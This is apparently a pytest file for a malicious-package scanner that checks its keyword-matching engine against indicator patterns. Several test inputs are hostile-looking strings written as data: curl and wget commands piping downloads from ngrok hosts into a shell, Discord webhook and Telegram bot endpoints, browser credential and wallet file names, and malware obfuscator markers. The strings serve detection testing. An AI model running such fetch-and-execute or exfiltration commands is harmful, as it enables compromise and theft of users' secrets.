"""The one-pass keyword search behind indicators gives the same windows, and so the same
matches, as searching for each keyword in turn."""

from __future__ import annotations

import re

import pytest

from pkgvet.analysis.keywords import KeywordHits, register, registered
from pkgvet.rules import indicators
from pkgvet.rules.indicators import Indicator

ALL = [v for v in vars(indicators).values() if isinstance(v, Indicator)]


def test_every_shared_indicator_keyword_is_registered() -> None:
    for ind in ALL:
        assert all(registered(k) == ind.shared for k in ind.keywords), ind.keywords


def test_hits_list_every_overlapping_occurrence_in_order() -> None:
    register(["abab", "bab"])
    text = "xabababab bab"
    hits = KeywordHits(text)
    assert hits.found["abab"] == [1, 3, 5]
    assert hits.found["bab"] == [2, 4, 6, 10]
    assert "ngrok" not in hits.found  # registered by an indicator, absent here


TEXTS = [
    "",
    "nothing to see here",
    "ngrokngrokngrok tcp " * 40,
    "curl http://x.ngrok.io/a | sh\n" + "x" * 300 + "wget http://x.ngrok-free.app/b | bash",
    # lower() changes the length of some characters: positions come from the lowered text
    "İİİ curl -s http://example.invalid/x | sh İ api.telegram.org/bot123:" + "a" * 30,
    "discord.com/api/webhooks/123456789/" + "a" * 30 + " " + "pastebin.com/raw/x " * 30,
    ("Login Data Local State wallet.dat " + " " * 500) * 5,
]


@pytest.mark.parametrize("text", TEXTS)
@pytest.mark.parametrize("ind", ALL, ids=lambda i: i.keywords[0][:12].strip() or "ws")
def test_matches_with_hits_equal_matches_without(ind: Indicator, text: str) -> None:
    lowered = text.lower()

    def spans(ms: object) -> list[tuple[int, int, str]]:
        return [(m.start(), m.end(), m.group(0)) for m in ms]  # type: ignore[attr-defined]

    plain = spans(ind.finditer(text, lowered))
    assert spans(ind.finditer(text, lowered, KeywordHits(lowered))) == plain


def test_unshared_indicator_ignores_hits() -> None:
    ind = Indicator(["zz" * 3], re.compile("zzzzzz+"), shared=False)
    text = "a zzzzzzzz b"
    assert [m.group(0) for m in ind.finditer(text, text, KeywordHits(text))] == ["zzzzzzzz"]


def test_texts_the_automaton_cannot_read_fall_back_to_searching_per_keyword() -> None:
    from pkgvet.analysis.keywords import MAX_HITS_TEXT, find_all
    from pkgvet.rules.indicators import PERSISTENCE

    text = "\\ud800 crontab -e \ud800"  # a lone surrogate, as a string literal can hold
    assert find_all(text) is None
    assert find_all("x" * (MAX_HITS_TEXT + 1)) is None
    assert find_all("crontab") is not None
    assert PERSISTENCE.search(text) is not None


UNSHARED = [i for i in ALL if not i.shared]


@pytest.mark.parametrize(
    "text",
    [
        *TEXTS,
        "# Obfuscated with BlankOBF\n" + "x = 1\n" * 200 + "__pyarmor__(__name__)\nkramer",
        "hyperion by someone " * 30 + "from pytransform import pyarmor_runtime",
    ],
)
@pytest.mark.parametrize("ind", UNSHARED, ids=lambda i: i.keywords[0][:12].strip() or "ws")
def test_unshared_indicator_automaton_gives_the_per_keyword_matches(
    ind: Indicator, text: str
) -> None:
    import dataclasses

    per_keyword = dataclasses.replace(ind)
    object.__setattr__(per_keyword, "index", None)  # the str.find path
    lowered = text.lower()
    got = [(m.start(), m.group(0)) for m in ind.finditer(text, lowered)]
    assert got == [(m.start(), m.group(0)) for m in per_keyword.finditer(text, lowered)]


def test_whitespace_runs_are_searched_per_keyword() -> None:
    from pkgvet.rules.indicators import HIDDEN_BY_WHITESPACE, OBFUSCATOR_MALWARE

    assert HIDDEN_BY_WHITESPACE.index is None  # a run would match at every position
    assert OBFUSCATOR_MALWARE.index is not None


def test_indicators_sharing_an_automaton_use_one_search_for_both() -> None:
    from pkgvet.rules.indicators import FILE_TEXT, OBFUSCATOR_COMMERCIAL, OBFUSCATOR_MALWARE

    assert OBFUSCATOR_MALWARE.index is FILE_TEXT is OBFUSCATOR_COMMERCIAL.index
    text = "# obfuscated by Kramer-Specter\nfrom pytransform import pyarmor_runtime\n"
    lowered = text.lower()
    hits = OBFUSCATOR_MALWARE.keyword_hits(lowered)
    assert hits is not None and {"kramer", "pytransform"} <= set(hits.found)
    for ind in (OBFUSCATOR_MALWARE, OBFUSCATOR_COMMERCIAL):
        assert (
            [m.group(0) for m in ind.finditer(text, lowered, hits)]
            == [m.group(0) for m in ind.finditer(text, lowered)]
            != []
        )


def test_hits_of_another_automaton_are_not_used() -> None:
    from pkgvet.rules.indicators import OBFUSCATOR_MALWARE

    text = "BlankOBF"
    shared = KeywordHits(text.lower())  # the string literals' automaton: no such keyword
    assert [m.group(0) for m in OBFUSCATOR_MALWARE.finditer(text, text.lower(), shared)] == [
        "BlankOBF"
    ]
